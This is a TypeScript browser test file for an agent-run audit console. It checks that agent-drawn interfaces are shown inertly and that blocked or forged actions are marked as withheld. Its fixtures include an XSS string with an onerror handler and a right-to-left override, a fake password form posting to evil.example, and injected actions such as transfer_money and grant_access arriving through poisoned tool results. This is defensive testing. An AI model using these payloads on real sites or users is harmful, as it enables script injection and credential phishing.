import { join } from "node:path";
import { findBrowser, sseFrame } from "@countersign/testkit";
import type { FakeScript } from "@countersign/testkit";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { findFaults } from "./testing/axe.js";
import { openConsole, PATIENCE } from "./testing/open-console.js";
import type { OpenedConsole } from "./testing/open-console.js";

const hasNoBrowser = findBrowser() === undefined;
/** A folder for pictures, to look at. */
const pictures = process.env["COUNTERSIGN_PICTURES"];
const CATALOGUE = "https://a2ui.org/specification/v0_9/basic_catalog.json";
const HOSTILE = '<img src=x onerror="document.title=1"><b>bold</b>\u202eevil';
const POLICY = `hushspec: "0.1.0"
rules:
  ag_ui: { allow_display_without_capability: true, restricted_classifications: [] }
  ag_ui_inbound: { default: allow }
  ag_ui_tools: { allow_agent_results: true }
  ag_ui_messages: { lists: open }
  ag_ui_surfaces: { catalogues: [{ id: "${CATALOGUE}" }], urls: { hosts: [images.example.org] } }
  ag_ui_apps: { servers: [maps], resources: [{ uri: "ui://*" }] }
  ag_ui_request: { forwarded_props: { allow: [a2uiAction] } }
`;

const activity = (messageId: string, activityType: string, content: object): object => ({
  type: "ACTIVITY_SNAPSHOT",
  messageId,
  activityType,
  content,
});
const card = (surfaceId: string, action: string, more: readonly object[] = []): object =>
  activity(surfaceId, "a2ui-surface", {
    a2ui_operations: [
      { version: "v0.9", createSurface: { surfaceId, catalogId: CATALOGUE } },
      {
        version: "v0.9",
        updateComponents: {
          surfaceId,
          components: [
            { id: "root", component: "Card", child: "all" },
            {
              id: "all",
              component: "Column",
              children: ["title", ...more.map((one) => (one as { id: string }).id), "press"],
            },
            { id: "title", component: "Text", text: { path: "/title" } },
            ...more,
            {
              id: "press",
              component: "Button",
              child: "text",
              action: { event: { name: action, context: { invoice: { path: "/invoice" } } } },
            },
            { id: "text", component: "Text", text: "View invoice" },
          ],
        },
      },
      {
        version: "v0.9",
        updateDataModel: { surfaceId, value: { title: "Refund of 40 €", invoice: "R-1" } },
      },
    ],
  });
const GOOD = card("refund", "view_invoice", [
  { id: "logo", component: "Image", url: "https://images.example.org/logo.png" },
  { id: "note", component: "TextField", label: "Your order number", value: { path: "/order" } },
  { id: "hostile", component: "Text", text: HOSTILE },
  { id: "long", component: "Text", text: "x".repeat(10_000) },
]);

/** Cards in cards, deeper than any client draws. */
const DEEP = activity("deep", "a2ui-surface", {
  a2ui_operations: [
    { version: "v0.9", createSurface: { surfaceId: "deep", catalogId: CATALOGUE } },
    {
      version: "v0.9",
      updateComponents: {
        surfaceId: "deep",
        components: Array.from({ length: 300 }, (_, at) => ({
          id: at === 0 ? "root" : `c${at}`,
          component: "Card",
          child: `c${at + 1}`,
        })),
      },
    },
  ],
});

const operationsOf = (one: object): object => (one as { content: object }).content;
const argumentsOf = (action: string): string =>
  JSON.stringify({
    surfaceId: `args_${action}`,
    catalogId: CATALOGUE,
    components: [
      { id: "root", component: "Button", child: "t", action: { event: { name: action } } },
      { id: "t", component: "Text", text: "View receipt" },
    ],
  });
const streamed = (toolCallId: string, action: string): object[] => [
  { type: "TOOL_CALL_START", toolCallId, toolCallName: "render_a2ui" },
  { type: "TOOL_CALL_ARGS", toolCallId, delta: argumentsOf(action) },
  { type: "TOOL_CALL_END", toolCallId },
];
const listed = (id: string, one: object): object => ({
  id,
  role: "activity",
  activityType: "a2ui-surface",
  content: operationsOf(one),
});

/** Draws through arguments of a tool, a result, and a message list; each also with what is blocked. */
const CHANNELS: readonly object[] = [
  ...streamed("c1", "view_receipt"),
  ...streamed("c2", "transfer_all"),
  { type: "TOOL_CALL_START", toolCallId: "c3", toolCallName: "search" },
  { type: "TOOL_CALL_ARGS", toolCallId: "c3", delta: "{}" },
  { type: "TOOL_CALL_END", toolCallId: "c3" },
  {
    type: "TOOL_CALL_RESULT",
    messageId: "r3",
    toolCallId: "c3",
    content: JSON.stringify(operationsOf(card("found", "view_found"))),
  },
  { type: "TOOL_CALL_START", toolCallId: "c4", toolCallName: "search" },
  { type: "TOOL_CALL_ARGS", toolCallId: "c4", delta: "{}" },
  { type: "TOOL_CALL_END", toolCallId: "c4" },
  {
    type: "TOOL_CALL_RESULT",
    messageId: "r4",
    toolCallId: "c4",
    content: JSON.stringify(operationsOf(card("poisoned", "grant_access"))),
  },
  {
    type: "MESSAGES_SNAPSHOT",
    messages: [
      listed("l1", card("listed", "view_listed")),
      listed("l2", card("swapped", "pay_now")),
    ],
  },
];

/** Draws a card, the same card with another action, an app and a page of HTML. */
const AGENT: FakeScript = ({ body }) => {
  const { threadId, runId } = JSON.parse(body) as { threadId: string; runId: string };
  return {
    pieces: [
      { type: "RUN_STARTED", threadId, runId },
      ...(runId === "run-1"
        ? [
            GOOD,
            card("again", "transfer_money"),
            DEEP,
            activity("map", "mcp-apps", {
              resourceUri: "ui://maps/route",
              serverId: "maps",
              result: { content: [] },
              toolInput: {},
            }),
            activity("page", "open-generative-ui", {
              html: [
                "<h1>Sign in</h1><form action='https://evil.example/'><input type=password name=pw></form>",
              ],
              generating: false,
              htmlComplete: true,
            }),
          ]
        : []),
      ...(runId === "run-4" ? CHANNELS : []),
      { type: "RUN_FINISHED", threadId, runId },
    ].map(sseFrame),
  };
};

const press = (name: string): object => ({
  threadId: "thread of run-1",
  forwardedProps: {
    a2uiAction: {
      userAction: {
        name,
        surfaceId: "refund",
        sourceComponentId: "press",
        timestamp: "2026-11-18T12:00:00Z",
        context: { invoice: "R-1" },
      },
    },
  },
});

let opened: OpenedConsole;
beforeAll(async () => {
  if (hasNoBrowser) return;
  opened = await openConsole(POLICY, AGENT, "evidence: { keep: 7d, events: all }");
  await opened.talk("alice", "run-1");
  await opened.talk("alice", "run-2", press("view_invoice"));
  await opened.talk("alice", "run-3", press("transfer_money"));
  await opened.talk("alice", "run-4");
}, PATIENCE);
afterAll(() => opened?.stop());

const conversationOf = (page: Page) => page.getByRole("region", { name: "Conversation" });

test.skipIf(hasNoBrowser)(
  "a run shows each interface as the person saw it, inert, and what was blocked with what decided",
  async () => {
    const page = await opened.open("#/runs/alice/run-1");
    const requests: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    const steps = conversationOf(page).locator(".step-activity");
    const good = steps.filter({ hasText: "Refund of 40 €" }).and(page.locator(":not(.ghost)"));
    const drawing = good.locator(".drawing");
    await drawing.getByText("https://images.example.org/logo.png").waitFor();
    const text = (await drawing.textContent()) ?? "";
    expect(text).toContain("View invoice → view_invoice with invoice");
    expect(text).toContain("Your order number asks for text");
    expect(text).toContain("<b>bold</b>\\u{202e}evil");
    expect(text).toContain("(10,000 characters)");
    expect(text).not.toContain("\u202e");
    const ghost = steps.and(page.locator(".ghost")).filter({ hasText: "transfer_money" });
    expect(await ghost.locator(".decided").textContent()).toContain(
      "View invoice → transfer_money",
    );
    expect(await ghost.locator(".decided").count()).toBe(1);
    await ghost.getByRole("link", { name: "ag_ui_surfaces.labels" }).waitFor();
    await ghost.getByText("Withheld: the person did not see this.").waitFor();
    const deep = steps.and(page.locator(".ghost")).filter({ hasText: "A2UI 0.9 deep" });
    await deep.getByText("Not all of it is known").waitFor();
    await steps.getByText("ui://maps/route").first().waitFor();
    const html = steps.filter({ hasText: "HTML in a sandbox" }).locator(".drawing");
    expect(await html.textContent()).toMatch(/bytes · 1 form · 0 scripts/u);
    expect(await html.textContent()).toContain("hides what is typed");
    expect(
      await page
        .locator(".drawing :is(a, img, button, input, form, iframe, script, [style])")
        .count(),
    ).toBe(0);
    expect(requests.filter((url) => !url.startsWith(opened.served.running.controlUrl))).toEqual([]);
    expect(await page.title()).not.toBe("1");
    expect(opened.pageErrors).toEqual([]);
    await page.context().close();
  },
  PATIENCE,
);

test.skipIf(hasNoBrowser)(
  "a click is a step that says what was pressed, and a forged one is marked",
  async () => {
    const page = await opened.open("#/runs/alice/run-2");
    const step = conversationOf(page).locator(".step-request");
    await expect
      .poll(() => step.textContent())
      .toContain("Pressed View invoice (view_invoice) on refund/press with invoice");
    expect(await step.getAttribute("class")).not.toContain("ghost");
    await page.goto(`${opened.served.running.controlUrl}/console#/runs/alice/run-3`);
    const forged = conversationOf(page).locator(".step-request.ghost");
    await expect.poll(() => forged.textContent()).toContain("(transfer_money) on refund/press");
    await forged.getByText("Withheld: the agent did not get this.").waitFor();
    await forged.getByRole("link", { name: "ag_ui_request.actions" }).waitFor();
    expect(opened.pageErrors).toEqual([]);
    await page.context().close();
  },
  PATIENCE,
);

test.skipIf(hasNoBrowser)(
  "arguments of a rendering tool, tool results and message lists are drawn like activities",
  async () => {
    const page = await opened.open("#/runs/alice/run-4");
    const steps = conversationOf(page).locator(".step");
    const shown = steps.and(page.locator(":not(.ghost)")).locator(".drawing");
    const withheld = steps.and(page.locator(".ghost")).locator(".drawing");
    await shown.getByText("view_listed").waitFor();
    const seen = (await shown.allTextContents()).join("\n");
    for (const action of ["view_receipt", "view_found", "view_listed"])
      expect(seen).toContain(`→ ${action}`);
    const blocked = (await withheld.allTextContents()).join("\n");
    for (const action of ["transfer_all", "grant_access", "pay_now"]) {
      expect(seen).not.toContain(action);
      expect(blocked).toContain(`→ ${action}`);
    }
    expect(await withheld.locator(".decided").count()).toBe(3);
    expect(opened.pageErrors).toEqual([]);
    await page.context().close();
  },
  PATIENCE,
);

test
  .skipIf(hasNoBrowser)
  .each(
    [1280, 390].flatMap((width) => [
      [width, "run-1", "ui://maps/route"] as const,
      [width, "run-4", "view_listed"] as const,
    ]),
  )(
  "drawn interfaces have no fault that axe finds, in light and dark, and fit a screen of %d: %s",
  async (width, run, last) => {
    const context = { viewport: { width, height: 844 } };
    const page = await opened.open(`#/runs/alice/${run}`, { context });
    await conversationOf(page).getByText(last).first().waitFor();
    const faults: string[] = [];
    for (const colorScheme of ["light", "dark"] as const) {
      await page.emulateMedia({ colorScheme });
      faults.push(
        ...(await findFaults(page, colorScheme === "dark" ? "color-contrast" : undefined)),
      );
      if (pictures === undefined) continue;
      const path = join(pictures, `drawings-${run}-${width}-${colorScheme}.png`);
      await conversationOf(page).screenshot({ path, animations: "disabled" });
    }
    expect(faults).toEqual([]);
    const beyond = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
    expect(beyond).toBeLessThanOrEqual(0);
    await page.context().close();
  },
  PATIENCE,
);
